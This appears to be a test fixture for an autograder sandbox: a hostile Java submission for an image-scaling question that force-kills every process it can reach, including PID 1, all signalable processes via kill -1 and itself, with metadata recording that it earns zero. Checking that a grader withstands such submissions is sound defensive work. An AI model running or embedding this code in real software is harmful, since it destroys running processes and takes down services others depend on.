// attack: kills every process that it may, itself and the first one of its namespace included
// assignment: 00-start-here
// question: scale
// notebook: kills
// earns: 0
// reason: The process that ran this code has ended|the answer is null
int libc(String name, Object... arguments) {
    return com.sun.jna.Function.getFunction("c", name).invokeInt(arguments);
}
double[] scale(int[] pixels) {
    ProcessHandle.allProcesses().filter(p -> p.pid() != ProcessHandle.current().pid()).forEach(ProcessHandle::destroyForcibly);
    libc("kill", 1, 9);
    libc("kill", -1, 9);
    libc("kill", libc("getpid"), 9);
    return null;
}
